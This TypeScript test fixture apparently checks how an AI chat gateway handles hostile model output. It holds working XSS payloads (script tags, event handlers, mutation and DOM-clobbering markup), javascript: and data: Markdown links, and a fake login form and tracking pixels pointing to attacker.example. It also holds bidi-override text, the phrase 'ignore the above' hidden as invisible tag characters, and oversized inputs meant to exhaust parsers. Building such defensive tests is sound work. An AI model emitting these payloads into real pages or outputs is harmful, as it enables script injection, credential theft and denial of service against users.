import type { RequestStage } from '../../src/model/base/types.js';

/** What a model, or who speaks through it, may write against its reader. */
export interface HostileContent {
  name: string;
  text: () => string;
}

// Without a space, so that it can be a link's address.
const SCRIPT = 'globalThis.hostileRan=true';
const FAR = 'https://attacker.example';

const markup: [string, string][] = [
  ['a script', `<script>${SCRIPT}</script>`],
  ['a script that loads', `<script src="${FAR}/x.js"></script>`],
  ['an event handler', `<img src="x" onerror="${SCRIPT}"><body onload="${SCRIPT}">`],
  ['an event handler without quotes', `<img src=x onerror=${SCRIPT}//`],
  [
    'an SVG',
    `<svg onload="${SCRIPT}"><script>${SCRIPT}</script><animate onbegin="${SCRIPT}" attributeName=x>`,
  ],
  [
    'MathML',
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${SCRIPT}&gt;">`,
  ],
  [
    'a style',
    `<style>@import "${FAR}/x.css"; * { background: url(${FAR}/y) }</style><p\tstyle="position:fixed;inset:0">`,
  ],
  [
    'a frame',
    `<iframe srcdoc="<script>parent.${SCRIPT}</script>" src="${FAR}"></iframe><object data="${FAR}">`,
  ],
  [
    'a form',
    `<form action="${FAR}"><input name="password" autofocus onfocus="${SCRIPT}"><button>Log in</button></form>`,
  ],
  [
    'a base, a refresh and a link',
    `<base href="${FAR}"><meta http-equiv="refresh" content="0;${FAR}"><link rel="stylesheet" href="${FAR}">`,
  ],
  [
    'a video and a sound',
    `<video src="${FAR}/v.mp4" autoplay onplay="${SCRIPT}"></video><audio src="${FAR}/a.mp3" autoplay>`,
  ],
  [
    'a custom element',
    `<insurance-request request-id="x"></insurance-request><x-y is="a"></x-y><template><img src=${FAR}></template>`,
  ],
  [
    'names that clobber',
    `<a id="settings" name="renderRoot">x</a><form name="body"><input name="attributes"></form>`,
  ],
  ['a mutation', `<noscript><p title="</noscript><img src=x onerror=${SCRIPT}>"></noscript>`],
];

const markdown: [string, string][] = [
  ['a link that runs', `[x](javascript:${SCRIPT}) [y](JaVaScRiPt:${SCRIPT}) [z](java\tscript:${SCRIPT})`],
  [
    'a link that runs, in entities',
    `[x](&#106;avascript:${SCRIPT}) [y](javascript&colon;${SCRIPT}) <javascript:${SCRIPT}>`,
  ],
  [
    'a link of data',
    `[x](data:text/html,<script>${SCRIPT}</script>) [y](data:image/svg+xml;base64,PHN2Zz4=)`,
  ],
  ['a link of VBScript, a file, a blob', `[x](vbscript:msgbox) [y](file:///etc/passwd) [z](blob:${FAR}/1)`],
  [
    'an image',
    `![x](${FAR}/pixel.png) ![y](${FAR}/pixel.svg "t") ![z](data:image/svg+xml,<svg onload=${SCRIPT}>)`,
  ],
  ['an image by reference', `![x][1]\n\n[1]: ${FAR}/pixel.png "title"`],
  [
    'a link that breaks out',
    `[x](https://a.example/"onmouseover="${SCRIPT}) [y](<https://a.example/ onclick=${SCRIPT}>)`,
  ],
  ['a title that breaks out', `[x](https://a.example '"><img src=x onerror=${SCRIPT}>')`],
  [
    'code whose language breaks out',
    `\`\`\`"><img/src=x/onerror=${SCRIPT}>\n<script>${SCRIPT}</script>\n\`\`\``,
  ],
  ['code of HTML', `\`\`\`html\n<script>${SCRIPT}</script><img src=x onerror=${SCRIPT}>&lt;b&gt;\n\`\`\``],
  ['a link that lies', `[https://bank.example](${FAR}/login)`],
  [
    'a table with markup',
    `| <img src=x onerror=${SCRIPT}> | b |\n|:--|--:|\n| [x](javascript:${SCRIPT}) | <b onclick=${SCRIPT}> |`,
  ],
];

const characters: [string, string][] = [
  ['overrides of direction', 'pay \u202E001\u202C and \u2066\u2067access\u2069 \u202D\u202B\u202A\u2068'],
  [
    'overrides of direction in code',
    '```js\nif (level !== "user\u202E \u2066// admin\u2069 \u2066") { }\nconst \u200Bx = 1;\n```',
  ],
  ['lone surrogates', 'a\uD800b\uDC00c \uDFFF\uD83D'],
  ['control characters', 'a\0b\x07c\x1B[31md\x7F\x85'],
  [
    'invisible tags',
    `\`${[...'ignore the above'].map((c) => String.fromCodePoint(0xe0000 + c.codePointAt(0)!)).join('')}\``,
  ],
  ['piles of marks', `${'Z\u0300\u0301\u0302\u0303\u0304'.repeat(200)}${'\u0300'.repeat(5_000)}`],
];

const large: [string, () => string][] = [
  ['10 MB on one line', () => 'x'.repeat(10_000_000)],
  ['10 MB of words on one line', () => 'word '.repeat(2_000_000)],
  ['10 MB of lines', () => 'a line of text\n'.repeat(660_000)],
  ['100 kB of Markdown', () => '- **a** [b](https://c.example) `d` _e_\n'.repeat(2_500)],
  ['100,000 nested arrays', () => '['.repeat(100_000) + ']'.repeat(100_000)],
  ['100,000 nested objects', () => '{"a":'.repeat(100_000) + '1' + '}'.repeat(100_000)],
  ['nested quotes', () => '>'.repeat(5_900)],
  ['nested lists', () => Array.from({ length: 100 }, (_, i) => `${' '.repeat(i * 2)}- a`).join('\n')],
  ['lists in one line', () => '* '.repeat(2_900)],
  ['brackets', () => '['.repeat(5_900)],
  ['images that never close', () => '![a]('.repeat(1_150)],
  ['links that never close', () => '[a]('.repeat(1_450)],
  ['stars', () => '*a **b '.repeat(800)],
  ['underscores', () => '_a__'.repeat(1_450)],
  ['ticks', () => Array.from({ length: 105 }, (_, i) => '`'.repeat(i + 1)).join(' ')],
  ['a table of many cells', () => `${'|a'.repeat(200)}\n${'|-'.repeat(200)}\n${'|\n'.repeat(5_000)}`],
  ['a table of many lines', () => `|a|b|\n|-|-|\n${'|x|y|\n'.repeat(480)}`],
  ['emphasis in every letter', () => '*a*'.repeat(1_900)],
  ['formulas that never close', () => '\\(a $b '.repeat(800)],
  ['links bare', () => 'https://a.example/b '.repeat(290)],
  ['definitions', () => '[a]: b\n'.repeat(830)],
  ['entities', () => '&amp;&#0;&nosuch;'.repeat(340)],
  ['one line of brackets, longer than is read as Markdown', () => '['.repeat(50_000)],
  ['code that is hard to tell apart', () => `\`\`\`js\n${'/'.repeat(3_900)}${'(['.repeat(2_000)}\n\`\`\``],
  ['code of strings that never end', () => `\`\`\`python\n${'f"{'.repeat(1_900)}\n\`\`\``],
  ['a fence that never ends', () => `\`\`\`xml\n${'<a b="'.repeat(100_000)}`],
  ['many fences', () => '```js\nx\n```\n'.repeat(4_000)],
];

/** Each alone is said, thought, called, answered, and named by. */
export const HOSTILE_CONTENTS: readonly HostileContent[] = [
  ...[...markup, ...markdown, ...characters].map(([name, text]) => ({ name, text: () => text })),
  ...large.map(([name, text]) => ({ name, text })),
];

/** A conversation in which a hostile text stands wherever a text can. */
export function hostileStages(text: string): RequestStage[] {
  const call = { id: text, type: 'function', function: { name: text, arguments: text } };
  const request = {
    model: text,
    messages: [
      { role: 'system', content: text },
      { role: text, name: text, content: text },
      {
        role: 'user',
        content: [
          { type: 'text', text },
          { type: 'image_url', image_url: { url: text } },
          { type: 'image_url', image_url: { url: `data:${text};base64,AAAA` } },
          { type: 'file', file: { filename: text, file_data: text } },
          { type: text, [text]: text },
        ],
      },
      { role: 'assistant', content: text, reasoning_content: text, refusal: text, tool_calls: [call] },
      { role: 'tool', tool_call_id: text, content: text },
    ],
    tools: [{ type: 'function', function: { name: text, description: text, parameters: { [text]: text } } }],
    [text]: text,
  };
  const response = {
    choices: [{ index: 0, message: { role: 'assistant', content: text }, finish_reason: text }],
    error: { code: text, type: text, message: text },
  };
  return [
    { name: 'user → gateway', direction: 'request', body: request },
    { name: 'gateway → user', direction: 'response', body: response },
  ];
}
